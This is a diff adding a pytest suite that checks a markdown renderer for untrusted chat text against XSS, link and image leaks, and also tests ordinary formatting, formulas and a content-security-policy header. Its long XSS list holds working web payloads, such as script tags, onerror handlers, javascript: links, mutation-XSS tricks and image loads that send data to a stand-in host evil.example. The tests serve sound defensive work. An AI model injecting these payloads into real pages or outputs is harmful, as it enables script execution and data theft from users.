@@ -1,0 +1,330 @@
+"""Markdown of untrusted text: what is shown, and that nothing a text can say runs, loads or leads away."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from chatlab.render import markdown as markup
+from chatlab.render.markdown import (
+    CODE_CSS,
+    LONGEST_CODE,
+    LONGEST_FORMULA,
+    LONGEST_TEXT,
+    document,
+    may_lead_to,
+    render,
+)
+
+ALLOWED = ("ok.example", "*.sub.example", "port.example:8443")
+
+ATTRIBUTES = {"class", "href", "src", "alt", "title", "rel", "start", "style", "referrerpolicy"}
+ATTRIBUTES |= markup._MATH_ATTRIBUTES
+
+
+class Seen(HTMLParser):
+    """What a browser would be told by a fragment."""
+
+    def __init__(self, fragment: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[str] = []
+        self.attributes: list[tuple[str, str, str]] = []
+        self.text = ""
+        self.feed(fragment)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes += [(tag, name, value or "") for name, value in attrs]
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        raise AssertionError("a comment")
+
+    handle_decl = handle_pi = unknown_decl = handle_comment
+
+
+def safe(fragment: str, allowed: tuple[str, ...] = ()) -> Seen:
+    """The fragment as a browser sees it, once it is certain to be harmless."""
+    seen = Seen(fragment)
+    assert set(seen.tags) <= markup._TAGS | markup._MATH_TAGS
+    hosts = tuple(host.removeprefix("*.").partition(":")[0] for host in allowed)
+    for tag, name, value in seen.attributes:
+        assert name in ATTRIBUTES, (tag, name)
+        if name == "href":
+            found = re.match(r"https?://([^/?#:]+)|mailto:", value, re.I)
+            assert tag == "a" and found and (found[1] is None or found[1].endswith(hosts or ("none",)))
+            assert ("a", "rel", "noopener noreferrer nofollow") in seen.attributes
+        if name == "src":
+            found = re.match(r"https?://([^/?#:]+)|data:image/(png|jpeg|gif|webp);base64,", value, re.I)
+            assert tag == "img" and found and (found[1] is None or found[1].endswith(hosts or ("none",)))
+        if name == "style":
+            assert re.fullmatch(r"text-align: ?(left|right|center);?", value)
+    return seen
+
+
+XSS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<style>@import 'https://evil.example'</style>",
+    "<!-- <script> --><math><mtext></script><img src onerror=alert(1)>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<base href=https://evil.example>",
+    "<a href='https://evil.example/'>x</a><a href='/logout'>y</a>",
+    "<p><img src='https://evil.example/p.png'><img src='data:image/svg+xml;base64,PHN2Zz4='>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
+    "<javascript:alert(1)>",
+    "[x]: javascript:alert(1)\n\n[x]",
+    '[x](https://ok.example "\\" onmouseover=alert(1) x=\\"")',
+    "[x](//evil.example/)",
+    "[x](\\\\evil.example)",
+    "[x](https://evil.example\\@ok.example/)",
+    "[x](https://ok.example\\@evil.example/)",
+    "[x](https://ok.example@evil.example/)",
+    "[x](https://ok.example.evil.example/)",
+    "[x](https://evil.example#@ok.example/)",
+    "[x](https:evil.example)",
+    "[x](https:/evil.example)",
+    "[x](https:///evil.example)",
+    "[x](https://ok.example%00.evil.example/)",
+    "[x](https://evil.example/?.sub.example)",
+    "[x](ftp://ok.example/)",
+    "[x](file:///etc/passwd)",
+    "[x](blob:https://ok.example/1)",
+    "[x](#fragment)",
+    "[x](/logout)",
+    "![x](https://evil.example/leak?q=secret)",
+    "![x](//evil.example/leak)",
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "![x](data:text/html;base64,PHNjcmlwdD4=)",
+    "![x](data:image/png;base64,AAAA' onerror=alert(1) ')",
+    '![" onerror=alert(1) "](data:image/png;base64,AAAA)',
+    "![x](javascript:alert(1))",
+    "![x](/file=/etc/passwd)",
+    "![<script>alert(1)</script>](https://evil.example)",
+    "[![x](https://evil.example/p)](https://evil.example/q)",
+    "```html\n<script>alert(1)</script>\n```",
+    '```"><script>alert(1)</script>\nx\n```',
+    "```python onclick=alert(1)\nx\n```",
+    "~~~&quot;&gt;&lt;script&gt;\nx\n~~~",
+    "`<script>alert(1)</script>`",
+    r"\(\text{<script>alert(1)</script>}\)",
+    r"\(\text{&lt;script&gt;alert(1)&lt;/script&gt;}\)",
+    r"\(\text{&amp;lt;img src=x onerror=alert(1)&amp;gt;}\)",
+    r"\(\text{</mtext></math><img src=x onerror=alert(1)>}\)",
+    r"\(\href{javascript:alert(1)}{x}\)",
+    r"\(\href{https://evil.example}{x}\)",
+    r"\(\style{background:url(https://evil.example)}{x}\)",
+    r"\(\class{x\" onclick=alert(1)}{x}\)",
+    r"\(\color{red\" onclick=\"alert(1)}{x}\)",
+    r"\(\unicode{x3c}script\unicode{x3e}\)",
+    r"\(\unicode{3c;img src=x onerror=alert(1) x}\)",
+    r"$$\begin{array}{l\" onclick=alert(1)} <b> \end{array}$$",
+    r"\(\nosuch{<img src=x onerror=alert(1)>}\)",
+    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
+    "|<style>|\n|--|\n|</style><script>alert(1)</script>|",
+    "\x00<script\x00>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "\ud83d<script>\ude00",
+]
+
+
+@pytest.mark.parametrize("allowed", [(), ALLOWED], ids=["no host", "hosts"])
+@pytest.mark.parametrize("text", XSS)
+def test_a_known_attack_is_harmless_text(text: str, allowed: tuple[str, ...]) -> None:
+    seen = safe(render(text, allowed_hosts=allowed), allowed)
+    assert not any("alert" in value for _, name, value in seen.attributes if name in ("href", "src", "style"))
+
+
+PIECES = st.one_of(
+    st.sampled_from(XSS),
+    st.sampled_from(
+        r"[ ]( ) ![ < > ` ``` $$ \( \) \[ \] | - * ** ~~ } { ^ _ \frac \text{ & \ # &lt; &#x3c;".split()  # noqa: SIM905
+    ),
+    st.sampled_from(["https://evil.example", "https://ok.example", "javascript:", "data:image/png;base64,"]),
+    st.sampled_from(["\n", "\n\n", "> ", "- ", "\t", '"', "'", " "]),
+    st.text(max_size=8),
+)
+
+
+@settings(max_examples=250, deadline=None)
+@given(st.lists(PIECES, max_size=12).map("".join), st.sampled_from([(), ALLOWED]))
+def test_no_text_at_all_gets_a_script_a_handler_or_a_foreign_load_through(
+    text: str, allowed: tuple[str, ...]
+) -> None:
+    safe(render(text, allowed_hosts=allowed), allowed)
+
+
+@pytest.mark.parametrize("text", XSS)
+def test_each_of_the_two_defences_is_enough_alone(text: str) -> None:
+    text = text.encode("utf-8", "replace").decode()
+    safe(markup._cleaner(()).clean(text))
+    made = markup._markdown().render(text, {"allowed_hosts": ()})
+    safe(made.replace('<a href="', '<a rel="noopener noreferrer nofollow" href="'))
+
+
+def test_everyday_markdown_is_set() -> None:
+    made = render(
+        "# Title\n\nOne *two* **three** ~~four~~ `five`\nsix\n\n- a\n- b\n\n3. c\n\n> d\n\n---\n\n"
+        "| x | y |\n|:--|--:|\n| 1 | 2 |\n"
+    )
+    for piece in (
+        "<h1>Title</h1>",
+        "<em>two</em> <strong>three</strong> <s>four</s> <code>five</code><br>\nsix",
+        "<li>a</li>",
+        '<ol start="3">',
+        "<blockquote>",
+        "<hr>",
+        '<td style="text-align:right">2</td>',
+    ):
+        assert piece in made
+
+
+def test_html_is_shown_as_it_was_written() -> None:
+    assert safe(render("a <b>c</b> &amp; d")).text == "a <b>c</b> & d\n"
+
+
+def test_code_is_highlighted_by_its_language_and_keeps_every_character() -> None:
+    code = "\n  def f():\n\treturn '<b>'  # äöü\n\n"
+    seen = safe(render(f"```python title\n{code}```"))
+    assert ("span", "class", "k") in seen.attributes
+    assert ("pre", "class", "code") in seen.attributes
+    assert seen.text == code + "\n"
+    assert ".code .k " in CODE_CSS and "prefers-color-scheme: dark" in CODE_CSS
+
+
+@pytest.mark.parametrize("language", ["", "nosuchlanguage", "python"])
+def test_code_of_no_known_language_or_of_great_length_is_plain(language: str) -> None:
+    code = "x = 1\n" * (LONGEST_CODE if language == "python" else 1)
+    seen = safe(render(f"```{language}\n{code}```"))
+    assert "span" not in seen.tags and seen.text.strip() == code.strip()
+
+
+def test_every_language_that_may_be_highlighted_is_known_to_pygments() -> None:
+    for language in markup._LANGUAGES:
+        assert safe(render(f"```{language}\nx\n```")).text.strip() == "x"
+
+
+@pytest.mark.parametrize(
+    ("text", "display"),
+    [
+        (r"so \(x^2\) is", "inline"),
+        ("$$x^2$$", "block"),
+        ("\\[\nx^2\n\\]", "block"),
+        ("- $$\n  x^2\n  $$", "block"),
+    ],
+)
+def test_formulas_become_mathml(text: str, display: str) -> None:
+    made = render(text)
+    assert f'display="{display}"' in made
+    assert "<msup><mi>x</mi><mn>2</mn></msup>" in made
+
+
+def test_signs_and_text_in_formulas_are_shown_as_such() -> None:
+    assert safe(render(r"\(\int a \le \text{x < y & z}\)")).text == "∫a≤x\xa0<\xa0y\xa0&\xa0z\n"
+
+
+def test_a_formula_is_not_read_as_markdown() -> None:
+    seen = safe(render("$$\na\n= b_1 * c_2 * d\n$$"))
+    assert "h1" not in seen.tags and "em" not in seen.tags and "math" in seen.tags
+
+
+def test_prices_are_no_formulas() -> None:
+    assert render("between $5 and $6") == "<p>between $5 and $6</p>\n"
+
+
+@pytest.mark.parametrize(
+    "formula", [r"\left(", r"\def\a{\a\a}\a", r"\newcommand{\a}{b}\a", r"\begin{matrix}", "{" * 900]
+)
+def test_a_formula_that_cannot_be_set_is_shown_as_code(formula: str) -> None:
+    seen = safe(render(rf"see \({formula}\) there"))
+    assert "math" not in seen.tags and "code" in seen.tags
+    assert seen.text == rf"see \({formula}\) there" + "\n"
+
+
+def test_what_is_too_long_for_a_formula_or_was_not_closed_is_text() -> None:
+    assert "math" not in safe(render("$$" + "x" * LONGEST_FORMULA + "$$")).tags
+    assert safe(render("an open \\(x and $$ y\n\n$$\nz")).text == "an open (x and $$ y\n$$\nz\n"
+
+
+def test_a_link_to_an_allowed_host_is_a_link_and_another_shows_where_it_leads() -> None:
+    made = render("[a](https://ok.example/x?y=1&z=2) [b](https://evil.example/q)", allowed_hosts=ALLOWED)
+    assert (
+        made == '<p><a href="https://ok.example/x?y=1&amp;z=2" rel="noopener noreferrer nofollow">a</a> '
+        "b (https://evil.example/q)</p>\n"
+    )
+    assert render("<https://evil.example/q>") == "<p>https://evil.example/q</p>\n"
+
+
+@pytest.mark.parametrize(
+    ("address", "may"),
+    [
+        ("https://ok.example", True),
+        ("HTTP://OK.example/a b".replace(" ", "%20"), True),
+        ("https://ok.example:444/", True),
+        ("https://a.sub.example/", True),
+        ("https://sub.example/", False),
+        ("https://.sub.example/", False),
+        ("https://port.example:8443/", True),
+        ("https://port.example/", False),
+        ("mailto:a@b.example", True),
+        ("https://user@ok.example/", False),
+        ("https://ok.example\n", False),
+    ],
+)
+def test_hosts_are_allowed_by_name_by_port_or_below_a_name(address: str, may: bool) -> None:
+    assert may_lead_to(address, ALLOWED) is may
+
+
+def test_a_picture_is_shown_if_it_is_inline_or_from_an_allowed_host() -> None:
+    made = render(
+        '![a](data:image/png;base64,iVBO) ![b](https://ok.example/p.png "t") ![c](https://evil.example/p.png)',
+        allowed_hosts=ALLOWED,
+    )
+    assert '<img src="data:image/png;base64,iVBO" alt="a"' in made
+    assert '<img src="https://ok.example/p.png" alt="b" title="t"' in made
+    assert "[image: c, https://evil.example/p.png]" in made
+
+
+def test_a_very_long_text_is_shown_as_it_is() -> None:
+    text = "*a* <b>\n" * (LONGEST_TEXT // 8 + 1)
+    seen = safe(render(text))
+    assert seen.text == text and set(seen.tags) == {"pre", "code"}
+
+
+def test_halves_of_a_character_that_a_stream_was_cut_between_are_shown_as_such() -> None:
+    assert render("a\ud83d") == "<p>a\ufffd</p>\n"
+    assert render("\ud83d\ude00") == "<p>\U0001f600</p>\n"
+
+
+def test_a_document_says_of_itself_that_nothing_may_run_or_load() -> None:
+    made = document("<Title> & co", render("hello"), css=".x { color: red }", lang='de"')
+    assert made.startswith('<!DOCTYPE html>\n<html lang="de&quot;">')
+    assert "<title>&lt;Title&gt; &amp; co</title>" in made
+    assert "default-src 'none'; style-src 'unsafe-inline'; img-src data:" in made
+    assert "<script" not in made and 'name="viewport"' in made
+    for needed in ("prefers-color-scheme: dark", "@media print", ".code .k", ".x { color: red }"):
+        assert needed in made
